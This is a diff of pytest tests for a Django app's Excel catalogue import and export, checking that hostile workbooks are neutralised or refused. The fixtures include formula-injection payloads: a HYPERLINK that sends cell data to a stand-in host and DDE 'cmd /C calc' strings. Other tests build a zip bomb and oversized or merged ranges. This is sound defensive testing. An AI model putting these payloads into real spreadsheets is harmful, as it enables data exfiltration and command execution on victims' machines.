@@ -15,6 +15,7 @@ from django.core.management import call_command
 from django.core.management.base import CommandError
 from django.urls import reverse
 from openpyxl import Workbook, load_workbook
+from openpyxl.utils import get_column_letter
 
 from gk_columns.exporting import channel_checkbox_text, export_catalogue
 from gk_columns.importing import (
@@ -676,3 +677,162 @@ def test_admin_upload_refuses_non_xlsx(admin_client, domains, settings, tmp_path
     response = admin_client.post(reverse("gk_columns_import:import_upload"), {"file": upload, "organisation": org.pk})
     assert response.status_code == 200
     assert "只支持 .xlsx" in response.content.decode()
+
+
+# -- hostile and unusual workbooks (security finding "Hardening" 6, 7, 17) ------------------------
+
+FORMULA_LIKE = {
+    "item_l1": '=HYPERLINK("http://evil.example/?d="&A1,"点击")',
+    "item_l2": "+cmd|' /C calc'!A0",
+    "content": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "basis": "-2+3+cmd|' /C calc'!A0",
+}
+
+
+def test_export_writes_formula_like_text_as_text_and_imports_it_back(domains):
+    org = make_org()
+    catalogue = make_catalogue(org, [entry_values(domains["义务教育"], **FORMULA_LIKE)])
+    buffer = io.BytesIO()
+    export_catalogue(catalogue, buffer)
+    ws = load_workbook(io.BytesIO(buffer.getvalue()))["义务教育"]  # as stored: a formula would read as one
+    cells = {ws[ref].value: ws[ref] for ref in ("B4", "C4", "D4", "E4")}
+    assert set(cells) == set(FORMULA_LIKE.values())
+    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells.values())
+    assert isinstance(ws["A4"].value, int)  # 序号 stays a number
+
+    result, copy = import_workbook(org, buffer)
+    assert result.errors == []
+    [entry] = copy.entries.all()
+    assert {name: getattr(entry, name) for name in FORMULA_LIKE} == FORMULA_LIKE
+
+
+@pytest.fixture
+def no_loading(monkeypatch):
+    """Fails the test if openpyxl is asked to load the workbook: refusals come first."""
+    loads = []
+    monkeypatch.setattr("gk_columns.importing.load_workbook", lambda *args, **kwargs: loads.append(args))
+    return loads
+
+
+def refusal(result):
+    [issue] = result.errors
+    assert result.rows == [] and issue.message.startswith("无法导入：")
+    return issue
+
+
+def test_tiny_workbook_declaring_a_whole_sheet_is_refused_before_loading(domains, no_loading):
+    upload = W.to_bytes(W.far_corner_cells())
+    assert len(upload.getvalue()) < 10_000  # the attack: a few kilobytes
+    issue = refusal(parse_workbook(upload))
+    assert (issue.sheet, issue.row, issue.column) == ("社会救助", None, None)
+    assert "使用区域为 A1:XFD1048576（1048576 行 × 16384 列）" in issue.message
+    assert "每个工作表最多 5000 行、50 列（A1:AX5000）" in issue.message
+    assert no_loading == []
+
+
+def test_cells_outside_the_limits_are_refused_whatever_the_sheet_declares(domains, no_loading):
+    lying = W.with_dimension(W.far_corner_cells(), "A1:N8")
+    issue = refusal(parse_workbook(lying))
+    assert (issue.sheet, issue.row, issue.column) == ("社会救助", 1, "XFD")
+    assert "单元格 XFD1 超出导入范围" in issue.message
+    # openpyxl loads any sheet relationship that is not a chart sheet: so does the check.
+    disguised = W.rewrite_part(
+        lying, "xl/_rels/workbook.xml.rels", lambda xml: xml.replace("relationships/worksheet", "relationships/other")
+    )
+    assert "单元格 XFD1 超出导入范围" in refusal(parse_workbook(disguised)).message
+    assert no_loading == []
+
+
+def test_the_limits_are_the_sheet_bounds(domains):
+    wb, _ = W.baodi_social_assistance()
+    wb.active["AX5000"] = "注：以上信息以正式文件为准"  # the last cell inside: read (a note after the table)
+    assert parse_workbook(W.to_bytes(wb), default_level=COUNTY).errors == []
+    for ref, where in (("AY1", (1, "AY")), ("A5001", (5001, "A"))):
+        wb, _ = W.baodi_social_assistance()
+        wb.active[ref] = "x"
+        issue = refusal(parse_workbook(W.with_dimension(wb, "A1:N8")))
+        assert (issue.row, issue.column) == where
+
+
+def test_huge_and_too_many_merges_are_refused_before_loading(domains, no_loading):
+    wb, _ = W.baodi_social_assistance()
+    issue = refusal(parse_workbook(W.with_merges(wb, ["A1:DKN3000"])))  # 3000 × 3000 cells
+    assert issue.sheet == "社会救助" and "合并区域 A1:DKN3000 超出导入范围" in issue.message
+
+    issue = refusal(parse_workbook(W.with_merges(wb, ["A1:AX5000", "A1:AX5000"])))  # inside, but overlapping
+    assert "合并单元格共覆盖超过 250000 个单元格" in issue.message
+
+    pairs = [f"{get_column_letter(2 * (i % 25) + 1)}{i // 25 + 1}:{get_column_letter(2 * (i % 25) + 2)}{i // 25 + 1}"
+             for i in range(10_001)]  # fmt: skip
+    issue = refusal(parse_workbook(W.with_merges(wb, pairs)))
+    assert "合并单元格超过 10000 处" in issue.message
+    assert no_loading == []
+
+
+def test_a_zip_that_inflates_past_the_limit_is_refused_before_loading(domains, no_loading):
+    wb, _ = W.baodi_social_assistance()
+    bomb = W.inflated(wb, 21)
+    assert len(bomb.getvalue()) < 200_000
+    issue = refusal(parse_workbook(bomb))
+    assert (issue.sheet, issue.row) == ("", None)
+    assert "解压后为 21.0 MB，超出导入上限 20 MB" in issue.message
+    assert no_loading == []
+
+
+def test_refusals_reach_the_command_and_the_admin_preview(domains, tmp_path, capsys, admin_client, settings):
+    settings.MEDIA_ROOT = tmp_path / "media"
+    settings.GK_PRIVATE_UPLOAD_DIR = tmp_path / "private"
+    org = make_org(code="hx")
+    path = save(W.far_corner_cells(), tmp_path)
+    with pytest.raises(CommandError):
+        call_command("import_catalogue", str(path), "--org", "hx")
+    assert "工作表 社会救助：无法导入：工作表的使用区域为 A1:XFD1048576" in capsys.readouterr().out
+
+    preview = admin_client.get(_upload(admin_client, W.far_corner_cells(), org)["Location"])
+    assert preview.status_code == 200
+    html = preview.content.decode()
+    assert "使用区域为 A1:XFD1048576" in html and "确认导入为新草稿版本" not in html
+    assert Catalogue.objects.count() == 0
+
+
+def test_formula_without_a_saved_result_is_refused_at_its_cell(domains):
+    wb, first = W.baodi_social_assistance()
+    wb.active[f"D{first}"] = '="《社会救助暂行办法》"'  # openpyxl saves formulas without their result
+    wb.active[f"A{first + 1}"] = "=A5+1"  # 序号 is not read: no reason to refuse it
+    result = parse(wb)
+    assert [(e.sheet, e.row, e.column, e.message) for e in result.errors] == [
+        ("社会救助", first, "D", "单元格为公式且没有保存计算结果，请在 Excel 或 WPS 中打开并保存后再导入。")
+    ]
+
+
+def test_formula_with_a_saved_result_imports_the_result(domains):
+    wb, first = W.baodi_social_assistance()
+    wb.active[f"D{first}"] = '="《社会救助暂行办法》"'
+    saved = W.with_cached_value(wb, f"D{first}", "《社会救助暂行办法》")
+    result = parse_workbook(saved, default_level=COUNTY)
+    assert result.errors == []
+    assert result.rows[0].content == "《社会救助暂行办法》"
+
+
+def test_header_label_that_is_a_formula_without_a_result_is_named(domains):
+    wb, first = W.baodi_social_assistance()
+    header = first - 2  # the two-row national header above the data
+    assert wb.active[f"D{header}"].value == "公开内容（要素）"
+    wb.active[f"D{header}"] = '="公开内容（要素）"'
+    result = parse(wb)
+    assert ("社会救助", header, "D", "单元格为公式且没有保存计算结果，请在 Excel 或 WPS 中打开并保存后再导入。") in [
+        (e.sheet, e.row, e.column, e.message) for e in result.errors
+    ]
+    assert any(e.message.startswith("表头缺少“公开内容（要素）”列") for e in result.errors)
+
+
+def test_cells_and_sheets_are_counted_over_the_whole_workbook(domains, monkeypatch, no_loading):
+    upload = W.to_bytes(W.social_assistance_and_household())  # 社会救助, 户籍管理, Sheet2, Sheet3
+    monkeypatch.setattr("gk_columns.workbook_scan.MAX_SHEETS", 3)
+    assert "工作簿有 4 个工作表，超出导入上限 3 个" in refusal(parse_workbook(upload)).message
+    monkeypatch.setattr("gk_columns.workbook_scan.MAX_SHEETS", 100)
+    first_sheet = W.baodi_social_assistance()[0].active
+    monkeypatch.setattr("gk_columns.workbook_scan.MAX_CELLS", len(first_sheet._cells) + 1)
+    issue = refusal(parse_workbook(upload))
+    assert issue.sheet == "户籍管理" and f"单元格超过 {len(first_sheet._cells) + 1} 个" in issue.message
+    assert no_loading == []
